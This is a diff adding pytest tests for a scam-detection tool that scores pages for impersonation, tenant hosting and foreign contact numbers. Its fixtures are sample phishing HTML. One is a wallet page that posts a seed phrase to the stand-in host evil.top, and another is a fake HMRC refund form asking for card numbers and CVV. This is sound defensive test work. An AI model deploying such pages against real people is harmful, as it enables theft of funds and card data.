@@ -1,0 +1,262 @@
+"""Whose a name or a page is: the platform's or its tenant's, the firm's or the word's, at home or abroad."""
+
+from dataclasses import replace
+from typing import Any
+
+import pytest
+
+from scamtriage.assess import Rules, assess
+from scamtriage.knowledge import infrastructure
+from scamtriage.records.assessment import Assessment, Verdict
+from scamtriage.records.evidence import Dossier, Mode
+from scamtriage.records.target import Target
+from scamtriage.render import share
+from scamtriage.targets.parse import parse_target
+from tests.judgement.sites import dossier
+
+RULES = Rules.load()
+SEED_PHRASE = (
+    "<title>Wallet restore</title><h1>Restore your wallet</h1><p>Enter your 12 word seed phrase to synchronise your wallet and restore "
+    'access to your funds.</p><form action="https://evil.top/x" method="post"><textarea name="seed" placeholder="recovery phrase">'
+    "</textarea></form>"
+)
+
+
+def row(url: str, html: str, **site: Any) -> Assessment:
+    target = parse_target(url)
+    assert isinstance(target, Target)
+    found = dossier({"host": target.host, "html": html, "age_days": 6_000, "mx": True, **site})
+    judged = assess(replace(found, target=target), RULES)
+    assert isinstance(judged, Assessment)
+    return judged
+
+
+def nats(judged: Assessment) -> dict[str, float]:
+    return {c.reading.signal: c.log_odds for c in judged.contributions}
+
+
+TENANTS = [
+    "https://sites.google.com/view/wallet-restore",
+    "https://docs.google.com/forms/d/e/x/viewform",
+    "https://forms.office.com/r/abc",
+    "https://discord.gg/abc",
+    "https://user.qzone.qq.com/123",
+    "https://m.facebook.com/restore",
+    "https://telegra.ph/restore",
+    "https://linktr.ee/restore",
+]
+
+
+@pytest.mark.parametrize("url", TENANTS)
+def test_what_a_tenant_does_is_judged_as_anywhere_else_and_the_platform_is_never_blocked(url: str) -> None:
+    judged = row(url, SEED_PHRASE)
+    elsewhere = row("https://restore.blogspot.com/", SEED_PHRASE)
+    assert judged.verdict is elsewhere.verdict is Verdict.NEAR_CERTAIN
+    assert "official" not in judged.states
+    assert not [signal for signal in nats(judged) if signal.startswith(("ben-", "rep-age", "name-"))]
+    assert not share.host_can_be_blocked(judged)
+    assert share.registration(judged) is None
+    assert all(route.kind != "registrar" for route in judged.report_to)
+
+
+@pytest.mark.parametrize("url", TENANTS)
+def test_of_a_tenants_address_alone_nothing_is_known(url: str) -> None:
+    target = parse_target(url)
+    judged = assess(Dossier(line=1, input=url, target=target, mode=Mode.OFFLINE, evidence={}), RULES)
+    assert isinstance(judged, Assessment)
+    assert judged.verdict is Verdict.NO_FINDING
+    assert not judged.contributions
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "https://www.facebook.com/",
+        "https://facebook.com/login.php?next=x",
+        "https://accounts.google.com/signin/v2",
+        "https://business.facebook.com/overview",
+        "https://www.microsoft.com/en-us/windows",
+    ],
+)
+def test_the_platforms_own_pages_stay_official(url: str) -> None:
+    assert "official" in row(url, "<title>Facebook</title><h1>Facebook</h1><form><input type=password></form>").states
+
+
+def test_the_platforms_name_in_its_own_frame_is_no_claim_of_the_tenant() -> None:
+    html = '<title>The bakery - Facebook</title><meta property="og:site_name" content="Facebook"><p>Bread and cakes since 1998.</p>'
+    html += "<form action=/login><input type=password></form><p>Facebook © 2026"
+    found = nats(row("https://www.facebook.com/thebakery", html))
+    assert not found.keys() & {"content-brand-mismatch", "name-brand-embedded", "combo-brand-ask"}
+
+
+def test_what_stands_left_of_a_lent_name_still_speaks() -> None:
+    assert "name-brand-embedded" in nats(row("https://evil-maybank.my.canva.site/x", SEED_PHRASE))
+
+
+@pytest.mark.parametrize(
+    ("host", "theirs"),
+    [
+        ("sites.google.com", True),
+        ("mail.google.com", False),
+        ("www.facebook.com", True),
+        ("developers.facebook.com", False),
+        ("a.developers.facebook.com", False),
+        ("bit.ly", True),
+        ("linktr.ee", True),
+        ("maybank2u.com.my", False),
+    ],
+)
+def test_where_tenants_lie_is_told_from_where_the_service_speaks(host: str, theirs: bool) -> None:
+    assert infrastructure.is_tenants(host) is theirs
+
+
+LOGIN = '<form action="/login"><input name="user"><input type="password" name="pass"></form>'
+
+
+@pytest.mark.parametrize(
+    ("host", "words"),
+    [
+        ("clearviewdoors.co.uk", "Clearview Windows and Doors"),
+        ("bathroomaids.co.uk", "Grab rails for bathrooms"),
+        ("oldorchardfarm.com", "Apple picking"),
+        ("iquitostours.com", "Amazon river cruises"),
+        ("klinikdesa.com", "Temu janji klinik"),
+        ("brickhomes.com", "Adobe houses"),
+        ("smithandnorton.co.uk", "Norton plumbers"),
+    ],
+)
+def test_a_word_of_everyday_is_nobodys_name_on_a_page(host: str, words: str) -> None:
+    found = nats(row(host, f"<title>{words}</title><h1>{words}</h1><p>Members log in to book.</p>{LOGIN}"))
+    assert not found.keys() & {"content-brand-mismatch", "combo-brand-ask", "name-brand-embedded"}
+
+
+@pytest.mark.parametrize(
+    ("host", "words"),
+    [
+        ("support-desk.top", "<title>Windows Defender</title><h1>Windows is locked</h1>"),
+        ("id-check.top", "<title>Apple</title><h1>Apple</h1><p>Sign in with your Apple ID."),
+        ("apple-verify.top", "<title>Apple</title><h1>Apple</h1>"),
+        ("arnazon-check.top", "<title>Amazon</title><h1>Amazon</h1>"),
+    ],
+)
+def test_it_is_beside_another_name_of_the_firm_or_in_a_host_that_imitates_it(host: str, words: str) -> None:
+    assert "content-brand-mismatch" in nats(row(host, words + LOGIN))
+
+
+ABROAD = {"contact-phone-country-mismatch"}
+
+
+@pytest.mark.parametrize(
+    ("host", "name", "number", "language"),
+    [
+        ("uob-th-help.com", "UOB Thailand", "+66 2 285 1555", "en"),
+        ("uob-help.com", "UOB", "+66 2 285 1555", "th"),
+        ("maybank-help.vn", "Maybank", "+84 24 3936 1234", "en"),
+        ("sc-help.com", "Standard Chartered Hong Kong", "+852 2886 8868", "en"),
+        ("uob-help.com", "UOB", "+65 6222 2121", "en"),
+    ],
+)
+def test_a_regional_bank_is_at_home_where_its_branch_is_named(host: str, name: str, number: str, language: str) -> None:
+    words = {
+        "en": "Log in with your password to see your account. Call our office.",
+        "th": "เข้าสู่ระบบด้วยรหัสผ่านเพื่อดูบัญชีของคุณ ติดต่อสอบถามข้อมูลเพิ่มเติมได้ที่สำนักงาน โทร",
+    }
+    judged = row(host, f"<html lang={language}><title>{name}</title><h1>{name}</h1><p>{words[language]} {number}</p>{LOGIN}")
+    assert not nats(judged).keys() & ABROAD
+    assert not [c for c in judged.contributions if "foreign" in c.because]
+    assert "cross-border" not in judged.flags
+
+
+@pytest.mark.parametrize(
+    ("host", "name", "number"),
+    [
+        ("uob-help.com", "UOB Thailand", "+84 24 3936 1234"),
+        ("uob-help.com", "UOB", "+66 2 285 1555"),
+        ("kbank-help.com", "Bank Rakyat Thailand", "+66 2 285 1555"),
+    ],
+)
+def test_elsewhere_its_number_is_foreign(host: str, name: str, number: str) -> None:
+    judged = row(host, f"<title>{name}</title><h1>{name}</h1><p>Log in to see your account. Call our office. {number}</p>{LOGIN}")
+    assert nats(judged).keys() >= ABROAD
+
+
+def test_whose_refund_it_is_says_the_kind_whatever_its_words_resemble() -> None:
+    html = (
+        '<title>HMRC Tax Refund</title><img class=logo alt="HMRC logo"><h1>HMRC tax refund line</h1><p>You are owed a refund of £412.30. '
+        "To claim your refund enter your card details and date of birth, or call us.</p>"
+        '<form><input name="card" placeholder="Card number"><input name="cvv" placeholder="CVV"></form>'
+    )
+    judged = row("hmrc-refund-line.co", html, age_days=12)
+    assert [t.type for t in judged.scam_types] == ["gov-police"]
+    assert judged.urgency == "high"
+
+
+@pytest.mark.parametrize("host", ["qantasairways-customer-service.org", "lionair-refund.com"])
+def test_who_imitates_an_airline_is_a_fake_desk(host: str) -> None:
+    assert [t.type for t in row(host, "<title>Flights</title><p>Change or cancel your flight.</p>", age_days=12).scam_types] == [
+        "fake-customer-care"
+    ]
+
+
+@pytest.mark.parametrize("term", ["飆股群組", "投顧老師", "리딩방"])
+def test_groups_for_stock_tips_are_those_of_false_advisers(term: str) -> None:
+    kinds = {m.name for meanings in RULES.tables.vocabulary.meanings for m in meanings if m.kind == "lexicon" and m.row in _rows(term)}
+    assert kinds == {"adviser-clone"}
+
+
+def _rows(term: str) -> set[int]:
+    words = RULES.tables.vocabulary
+    found = zip(words.matcher.patterns, words.meanings, strict=True)
+    return {m.row for pattern, meanings in found if pattern.expression == term for m in meanings if m.kind == "lexicon"}
+
+
+@pytest.mark.parametrize(
+    ("number", "kind"),
+    [
+        ("0905 123 4567", "a premium-rate number"),
+        ("+44 70 1234 5678", "a personal number"),
+        ("+44 56 1234 5678", "an internet telephone number"),
+        ("+44 7400 123456", "a mobile number"),
+        ("+66 2 285 1555", "a foreign number"),
+    ],
+)
+def test_the_number_of_an_alleged_office_is_called_what_it_is(number: str, kind: str) -> None:
+    html = f"<html lang=en-GB><title>HMRC Tax Refund</title><h1>HMRC refund line</h1><p>You are owed a tax refund. To claim, call {number}"
+    judged = row("hmrc-refund-line.co.uk", html + '<form><input name="card" placeholder="Card number"></form>')
+    [said] = [c.because for c in judged.contributions if c.reading.signal == "contact-authority-foreign-phone"]
+    assert f"is to be reached on {kind}:" in said
+    assert "shows fixed line" not in str([c.because for c in judged.contributions if kind != "a foreign number"])
+
+
+@pytest.mark.parametrize("number", ["1900 1234", "+84 1900 545413"])
+def test_the_service_line_of_a_vietnamese_bank_is_no_private_number(number: str) -> None:
+    html = f"<html lang=vi><title>Vietcombank</title><h1>Vietcombank</h1><p>Đăng nhập để xem tài khoản. Tổng đài hỗ trợ: {number}</p>"
+    assert "contact-authority-foreign-phone" not in nats(row("vietcombank-help.com", html + LOGIN))
+
+
+BODIES = (
+    *("警視庁", "検察庁", "ゆうちょ銀行", "りそな銀行", "PayPay", "東京電力", "イオンカード", "국세청", "우체국택배", "농협은행"),
+    *("우리은행", "하나은행", "Kejaksaan", "PERKESO", "กรมการขนส่งทางบก", "香港海關", "EPFO", "FASTag", "DVLA", "Centrelink"),
+)
+
+
+@pytest.mark.parametrize("body", [*BODIES, "Cơ quan bảo hiểm xã hội"])
+def test_who_speaks_as_one_of_these_is_seen_to(body: str) -> None:
+    found = nats(row("check-office.top", f"<title>{body}</title><h1>{body}</h1>{LOGIN}", age_days=12))
+    assert found.keys() & {"content-claims-authority", "content-brand-mismatch"}
+
+
+@pytest.mark.parametrize(
+    ("host", "hard"), [("www.perkeso.gov.my", True), ("hometax.go.kr", True), ("www.wooribank.com", False), ("paypay.ne.jp", False)]
+)
+def test_their_own_names_are_theirs_and_stop_hard_only_where_a_registry_vouches(host: str, hard: bool) -> None:
+    target = parse_target(host)
+    assert isinstance(target, Target)
+    brand = RULES.tables.organisations[RULES.tables.owners_of(target)[0]]
+    assert (target.registrable in brand.hard) is hard
+
+
+@pytest.mark.parametrize("words", ["Kế toán và bảo hiểm xã hội", "우체국 앞 꽃집"])
+def test_a_common_word_in_their_names_claims_nothing(words: str) -> None:
+    found = nats(row("hoa-shop.com", f"<title>{words}</title><h1>{words}</h1>{LOGIN}"))
+    assert not found.keys() & {"content-claims-authority", "content-brand-mismatch"}
